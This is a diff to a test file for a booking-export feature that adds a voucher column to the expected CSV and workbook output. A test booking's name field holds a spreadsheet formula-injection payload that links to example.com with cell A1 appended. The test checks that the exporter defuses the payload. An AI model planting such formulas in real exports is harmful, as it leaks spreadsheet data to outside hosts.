@@ -34,10 +34,10 @@ test('a single booking is exported, in UTF-8, without anything that a spreadshee
   expect(text.startsWith('\ufeff')).toBe(true);
   const [head, row, ...others] = linesOf(text);
   expect(head).toBe(
-    'Booking,Status,Full name,Email,Phone number,Date of birth,Booking Date,Time,Items booked,Total (EUR),Language,Created,Paid (EUR),Refunded (EUR),Kept (EUR)',
+    'Booking,Status,Full name,Email,Phone number,Date of birth,Booking Date,Time,Items booked,Voucher or code (EUR),Total (EUR),Language,Created,Paid (EUR),Refunded (EUR),Kept (EUR)',
   );
   expect(row).toContain(
-    `WATER-${hostile.id},Pending,"'=HYPERLINK(""https://example.com?""&A1,""Żółć; click"")",hostile@example.org,'+39 333 100 0001,1990-05-20,2027-06-20,10:00 - 11:00,1 × Single kayak (1 h),14.00,EN,`,
+    `WATER-${hostile.id},Pending,"'=HYPERLINK(""https://example.com?""&A1,""Żółć; click"")",hostile@example.org,'+39 333 100 0001,1990-05-20,2027-06-20,10:00 - 11:00,1 × Single kayak (1 h),0.00,14.00,EN,`,
   );
   expect(others).toEqual([]);
 });
@@ -144,7 +144,8 @@ test('a workbook has numbers as numbers, dates as dates, and texts that are neve
   expect(cell('Date of birth')).toEqual(new Date('1990-05-20T00:00:00Z'));
   expect(cell('Created')).toBeInstanceOf(Date);
   expect([cell('Single kayak'), cell('Tandem kayak')]).toEqual([1, 0]);
-  expect(head.slice(-6)).toEqual([
+  expect(head.slice(-7)).toEqual([
+    'Voucher or code (EUR)',
     'Total (EUR)',
     'Language',
     'Created',
@@ -175,5 +176,5 @@ test('CSV for Excel has semicolons, decimal commas, a column per item and a phon
   expect(row).toContain(';(+39) 333 100 0001;1990-05-20;2027-06-20;');
   expect(row).toContain(';"14,00";EN;');
   const decimals = row.match(/"\d+,\d\d"/g);
-  expect(decimals).toHaveLength(4);
+  expect(decimals).toHaveLength(5);
 });
